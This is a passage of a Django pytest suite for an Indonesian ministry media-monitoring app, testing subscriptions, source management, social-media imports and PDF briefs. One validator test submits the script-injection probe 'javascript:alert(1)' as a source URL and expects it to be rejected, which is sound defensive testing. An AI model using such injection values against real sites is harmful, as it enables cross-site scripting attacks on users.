                                 ("r-kind", "Jenis lonjakan tidak dikenal.")]
    response = client.post("/situasi/langganan/", {"province": "73.22"})  # a regency, not a province
    assert summary(response) == [("r-province", "Provinsi tidak dikenal.")]
    assert not AlertRule.objects.exists()


def test_alert_subscription_needs_an_email_address(client, people):  # type: ignore[no-untyped-def]
    people.kakan_lutra.email = ""
    people.kakan_lutra.save()
    client.force_login(people.kakan_lutra)
    response = client.post("/situasi/langganan/", {"province": "73"})
    assert response.status_code == 400
    assert summary(response) == [("", "Akun Anda belum punya alamat surel; peringatan tidak dapat dikirim.")]
    assert not AlertRule.objects.exists()


def test_brief_subscription_is_created_once_and_bad_values_refused(client, people):  # type: ignore[no-untyped-def]
    client.force_login(people.kakanwil_sulsel)
    for _ in range(2):
        response = client.post("/situasi/langganan/", {"brief": "1", "region": "73", "period": "daily"}, follow=True)
        assert flashes(response) == ["Anda akan menerima ringkasan lewat surel."]
    assert list(BriefSubscription.objects.values_list("user", "region_code", "period")) == [
        (people.kakanwil_sulsel.pk, "73", "daily")]
    assert "Harian · Sulawesi Selatan" in response.content.decode()

    for bad, error in (({"region": "99", "period": "daily"}, ("b-region", "Wilayah ringkasan tidak dikenal.")),
                       ({"region": "73", "period": "yearly"},
                        ("b-period", "Pilih periode ringkasan: harian atau mingguan."))):
        response = client.post("/situasi/langganan/", {"brief": "1", **bad})
        assert response.status_code == 400 and summary(response) == [error]
    assert BriefSubscription.objects.count() == 1


# --- Sources and imports ---------------------------------------------------------------------


def test_sources_can_only_be_changed_by_a_manager(client, people, source):  # type: ignore[no-untyped-def]
    client.force_login(people.fo_lutra)
    response = client.get("/situasi/sumber/")
    assert response.status_code == 200
    assert "Pantauan media uji" in response.content.decode()
    assert "Tambah sumber" not in response.content.decode()
    response = client.post("/situasi/sumber/", {"action": "add", "kind": "feed", "name": "Umpan liar",
                                                "url": "https://contoh.id/feed"})
    assert response.status_code == 403
    response = client.post("/situasi/sumber/", {"action": "toggle", "source": str(source.pk)})
    assert response.status_code == 403
    source.refresh_from_db()
    assert source.active and Source.objects.count() == 1


def test_manager_adds_a_feed_source_and_toggles_it(client, people, stand_in_dns):  # type: ignore[no-untyped-def]
    stand_in_dns({"luwuutara.kemenag.go.id": "103.7.12.40"})
    client.force_login(people.kakanwil_sulsel)  # Kanwil heads manage sources; a Kankemenag does not
    assert "Tambah sumber" in client.get("/situasi/sumber/").content.decode()

    response = client.post("/situasi/sumber/", {"action": "add", "kind": "feed", "name": "Humas Luwu Utara",
                                                "url": "javascript:alert(1)", "interval": "15"})
    assert response.status_code == 400
    assert summary(response) == [("s-url", "Alamat sumber harus URL http(s) yang sah.")]
    response = client.post("/situasi/sumber/", {"action": "add", "kind": "internal", "name": "Tiruan internal",
                                                "url": "https://contoh.id/"})
    assert summary(response) == [("s-kind", "Pilih jenis sumber: umpan, halaman web atau impor media sosial.")]
    assert not Source.objects.exists()

    response = client.post("/situasi/sumber/", {"action": "add", "kind": "feed", "name": "Humas Luwu Utara",
                                                "url": "https://luwuutara.kemenag.go.id/feed", "interval": "15"},
                           follow=True)
    assert flashes(response) == ["Sumber ditambahkan."]
    feed = Source.objects.get()
    assert (feed.kind, feed.url, feed.interval_minutes, feed.active) == (
        SourceKind.FEED, "https://luwuutara.kemenag.go.id/feed", 15, True)
    assert feed.office.code == "73"  # the adding Kanwil owns it

    response = client.post("/situasi/sumber/", {"action": "toggle", "source": str(feed.pk)}, follow=True)
    assert flashes(response) == ["Sumber dinonaktifkan."]
    feed.refresh_from_db()
    assert not feed.active
    response = client.post("/situasi/sumber/", {"action": "toggle", "source": str(feed.pk)}, follow=True)
    assert flashes(response) == ["Sumber diaktifkan."]
    feed.refresh_from_db()
    assert feed.active

    response = client.post("/situasi/sumber/", {"action": "toggle", "source": "999999"})
    assert response.status_code == 400 and summary(response) == [("", "Sumber tidak ditemukan.")]


SOCIAL_POSTS = [
    {"id": "post-1", "author": "warga_masamba", "time": "{t1}",
     "text": "Banjir kembali merendam dua madrasah di Kecamatan Masamba, Kabupaten Luwu Utara, sejak Senin pagi. "
             "Kegiatan belajar dihentikan sementara dan ratusan siswa diliburkan. Kankemenag Kabupaten Luwu Utara "
             "menyalurkan bantuan bagi korban banjir dan mendata kerusakan ruang kelas serta buku pelajaran yang "
             "terendam air setinggi lutut orang dewasa."},
    {"id": "post-2", "author": "info_palopo", "time": "{t2}", "url": "https://contoh.id/unggahan/2",
     "text": "Ratusan calon jemaah haji Kota Palopo mengikuti manasik haji akbar di lapangan kota. Mereka berlatih "
             "tawaf, sai, dan lempar jumrah dengan bimbingan petugas Kankemenag Kota Palopo. Calon jemaah diminta "
             "menjaga kesehatan, melengkapi dokumen perjalanan, dan melunasi biaya sebelum batas waktu yang "
             "ditetapkan pemerintah tahun ini."},
    {"id": "post-3", "author": "suara_makassar", "time": "{t3}",
     "text": "Warga Kota Makassar mengeluhkan layanan legalisir ijazah madrasah yang lambat di kantor kementerian. "
             "Seorang ibu mengaku datang tiga kali tanpa kepastian dan kecewa karena antrean panjang. Petugas "
             "berjanji memperbaiki pelayanan, menambah loket, dan membuka pendaftaran daring agar warga tidak "
             "perlu datang berulang kali."},
]


def _export(now) -> bytes:  # type: ignore[no-untyped-def]
    lines = []
    for k, post in enumerate(SOCIAL_POSTS, start=1):
        row = dict(post, time=(now - timedelta(hours=k)).isoformat())
        lines.append(json.dumps(row, ensure_ascii=False))
    lines.insert(1, "{ini bukan json")  # line 2
    lines.insert(3, json.dumps({"id": "post-kosong", "text": "   "}))  # line 4
    lines.append(lines[0])  # line 6: the first post again
    return ("\n".join(lines) + "\n").encode("utf-8")


def test_social_export_upload_is_imported_with_progress_and_bad_lines_listed(  # type: ignore[no-untyped-def]
        client, room_people, source, django_capture_on_commit_callbacks):
    client.force_login(room_people.pusat_admin)  # a national source: Pusat manages it
    upload = SimpleUploadedFile("ekspor-medsos.jsonl", _export(timezone.now()), content_type="application/json")
    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        response = client.post("/situasi/sumber/", {"action": "upload", "source": str(source.pk), "file": upload})
    assert len(callbacks) >= 1  # the import task was handed to Celery after the commit
    job = ImportJob.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/situasi/impor/{job.pk}/"
    assert (job.status, job.total, job.done, job.added) == (ImportStatus.DONE, 3, 3, 3)
    assert job.errors == ["Baris 2: bukan JSON yang sah", "Baris 4: kolom text kosong",
                          "Baris 6: sama dengan baris 1, dilewati"]
    assert job.created_by == room_people.pusat_admin and bytes(job.data) == b""  # the raw upload is not kept
    items = {i.external_id: i for i in Item.objects.filter(source=source)}
    assert set(items) == {"post-1", "post-2", "post-3"}
    assert items["post-1"].regency_code == "73.22" and items["post-1"].issue_id is not None
    assert items["post-2"].url == "https://contoh.id/unggahan/2" and items["post-2"].author == "info_palopo"
    source.refresh_from_db()
    assert source.last_success_at is not None

    progress = client.get(f"/situasi/impor/{job.pk}/?format=json").json()
    assert progress["status"] == "done" and progress["percent"] == 100
    assert (progress["total"], progress["done"], progress["added"]) == (3, 3, 3)
    assert progress["errors"] == job.errors
    page = client.get(f"/situasi/impor/{job.pk}/").content.decode()
    assert "Baris 2: bukan JSON yang sah" in page and 'value="100"' in page


def test_upload_refuses_wrong_file_type_oversized_file_and_non_social_source(client, people, room_people, source):  # type: ignore[no-untyped-def]
    feed = Source.objects.create(name="Umpan berita", kind=SourceKind.FEED, url="https://contoh.id/feed")
    client.force_login(room_people.pusat_admin)

    def upload(target: Source, name: str, data: bytes):  # type: ignore[no-untyped-def]
        response = client.post("/situasi/sumber/", {"action": "upload", "source": str(target.pk),
                                                    "file": SimpleUploadedFile(name, data)})
        assert response.status_code == 400
        return summary(response)

    # The error links to the file input of the source's own row.
    file_input = f"sumber-{source.pk}-file"
    assert upload(source, "ekspor.exe", b"MZ\x90\x00") == [(file_input, "Pilih berkas JSONL atau CSV.")]
    too_big = b'{"text": "x"}\n' + b" " * (MAX_UPLOAD - 13)
    assert len(too_big) == MAX_UPLOAD + 1
    assert upload(source, "besar.jsonl", too_big) == [
        (file_input, "Berkas terlalu besar (maksimal 20 MB); bagi menjadi beberapa berkas.")]
    assert upload(feed, "ekspor.jsonl", b'{"text": "halo"}\n') == [
        ("", "Unggahan hanya untuk sumber impor media sosial.")]
    response = client.post("/situasi/sumber/", {"action": "upload", "source": str(source.pk)})
    assert response.status_code == 400 and summary(response) == [(file_input, "Pilih berkas JSONL atau CSV.")]
    assert f'id="{file_input}"' in response.content.decode()
    assert not ImportJob.objects.exists()


# --- Briefs ----------------------------------------------------------------------------------


def test_brief_pdf_of_jawa_barat_names_the_region_and_the_spike_issue(client, people, source):  # type: ignore[no-untyped-def]
    spike = plant(source)
    trends.detect()
    client.force_login(people.kakanwil_sulsel)
    response = client.get("/situasi/ringkasan.pdf?wilayah=32&periode=daily")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == 'inline; filename="ringkasan-daily-32.pdf"'
    assert response.content.startswith(b"%PDF")
    text = pdf_text(response.content)
    assert "Ringkasan Harian" in text and "Jawa Barat" in text
    assert spike.title in text
    assert "Kabupaten Bogor" in text  # where the issue is
    assert "Sulawesi Selatan" not in text  # another province's news stays out

    weekly = pdf_text(client.get("/situasi/ringkasan.pdf?wilayah=73&periode=weekly").content)
    assert "Ringkasan Mingguan" in weekly and "Sulawesi Selatan" in weekly and spike.title not in weekly
    assert "Halaman 1" in text  # every page says what it belongs to
    # Indonesian whatever the asking page's language (alert states and source names came in English).
    client.cookies["django_language"] = "en"
    english = pdf_text(client.get("/situasi/ringkasan.pdf?wilayah=32&periode=daily").content)
    assert "Ringkasan Harian" in english and " New" not in english and "(internal)" not in english


def test_the_brief_gives_the_period_s_tone_topic_names_and_the_region_s_time(people, source):  # type: ignore[no-untyped-def]
    from satupintu.situation.briefs import brief_pdf

    now = timezone.now()
    old = Issue.objects.create(title="Isu lama yang ramai", province_code="73", regency_code="73.22",
                               provinces=["73"], regencies=["73.22"], item_count=100, negative_count=80,
                               first_seen=now - timedelta(days=60), last_seen=now)
    for n in range(5):
        Item.objects.create(source=source, external_id=f"baik-{n}", title=f"Kabar baik {n}", text="Kabar baik.",
                            published_at=now - timedelta(hours=2), province_code="73", regency_code="73.22",
                            topics=["kerukunan"], topics_mask=topics_mask(["kerukunan"]), sentiment="positive",
                            issue=old)
    text = " ".join(pdf_text(brief_pdf("73", "daily", now)).split())
    # Five good-news items today: 0% negative, not the issue's all-time 80%.
    assert re.search(r"Isu lama yang ramai 5 .{0,60}0% negatif", text), text
    assert "80% negatif" not in text
    assert "Kerukunan umat beragama (5)" in text and "kerukunan (5)" not in text
    assert f"{timezone.localtime(now, ZoneInfo('Asia/Makassar')):%d/%m/%Y %H:%M} WITA" in text


def test_a_post_of_a_hundred_lines_does_not_stop_the_brief(client, people, source):  # type: ignore[no-untyped-def]
    """Untitled, its text became an issue's title with its line breaks: one table row taller than
    the page (LayoutError), a 500 here and no brief for any subscriber of the region after it."""
    spike = plant(source)
    spike.title = "rusuh\n" * 3 + "a\n" * 140
    spike.save(update_fields=["title"])
    Item.objects.create(source=source, external_id="tanpa-judul", text="Ricuh\n" + "b\n" * 200,
                        published_at=timezone.now(), province_code="32")
    client.force_login(people.kakanwil_sulsel)
    response = client.get("/situasi/ringkasan.pdf?wilayah=32&periode=daily")
    assert response.status_code == 200 and response.content.startswith(b"%PDF")
    assert "rusuh rusuh rusuh a a" in pdf_text(response.content)
    from satupintu.situation.issues import _title_for

    assert "\n" not in _title_for(Item.objects.get(external_id="tanpa-judul"))


def test_brief_pdf_with_unknown_region_or_period_goes_back_with_a_message(client, people):  # type: ignore[no-untyped-def]
    client.force_login(people.kakanwil_sulsel)
    for query in ("wilayah=99&periode=daily", "wilayah=32&periode=yearly"):
        response = client.get(f"/situasi/ringkasan.pdf?{query}")
        assert response.status_code == 302 and response["Location"] == "/situasi/"
        response = client.get("/situasi/", follow=True)
        assert flashes(response) == ["Wilayah atau periode ringkasan tidak dikenal."]


def test_daily_briefs_are_emailed_with_the_pdf_once_per_subscription_and_day(people, source):  # type: ignore[no-untyped-def]
    plant(source)
    now = timezone.now()
    no_mail = get_user_model().objects.create_user("tanpa.surel", "", "sandi-uji-123")
    BriefSubscription.objects.create(user=people.kakanwil_sulsel, region_code="73", period="daily")
    BriefSubscription.objects.create(user=people.kakanwil_jateng, region_code="32", period="daily")
    BriefSubscription.objects.create(user=people.kakan_lutra, region_code="73.22", period="weekly")
    BriefSubscription.objects.create(user=no_mail, region_code="", period="daily")

    assert briefs.send_due_briefs("daily", now) == 2
    mails = {m.recipient: m for m in OutboxMessage.objects.filter(dedupe_key__startswith="brief:")}
    assert set(mails) == {people.kakanwil_sulsel.email, people.kakanwil_jateng.email}
    for mail in mails.values():
        assert bytes(mail.attachment).startswith(b"%PDF")
        assert mail.attachment_type == "application/pdf" and mail.attachment_name.endswith(".pdf")
    jabar = mails[people.kakanwil_jateng.email]
    assert "Jawa Barat" in jabar.subject
    assert "Penolakan rumah ibadah" in pdf_text(bytes(jabar.attachment))

    assert briefs.send_due_briefs("daily", now) == 0  # a rerun the same day sends nothing more
    assert OutboxMessage.objects.filter(dedupe_key__startswith="brief:").count() == 2
    assert briefs.send_due_briefs("daily", now + timedelta(days=1)) == 2  # the next day's brief does go out
    people.kakanwil_jateng.is_active = False  # left: the subscription stays, the mail stops
    people.kakanwil_jateng.save()
    assert briefs.send_due_briefs("daily", now + timedelta(days=2)) == 1
